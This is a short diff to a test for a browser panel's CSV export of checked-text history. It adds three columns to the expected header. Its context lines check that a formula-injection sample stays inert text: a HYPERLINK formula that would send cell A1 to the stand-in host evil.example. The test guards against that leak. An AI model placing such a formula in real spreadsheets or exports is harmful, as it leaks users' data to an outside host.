@@ -36,7 +36,7 @@ test('markup and formulas in the selected text stay text: in the page, the side 
 
   const csv = await panel.exportHistory('CSV');
   const lines = csv.text.trimEnd().split('\r\n');
-  expect(lines[0]).toBe('id,createdAt,status,verdict,confidence,path,text,reason,explanation,pageUrl,pageTitle,site,sources');
+  expect(lines[0]).toBe('id,createdAt,status,verdict,confidence,path,text,reason,explanation,pageUrl,pageTitle,site,sources,question,answer,statement');
   expect(lines).toHaveLength(3);
   // The formula cannot run in a spreadsheet (a leading quote) and quotes are doubled inside a quoted cell.
   expect(csv.text).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Masks cause disease"")",`);
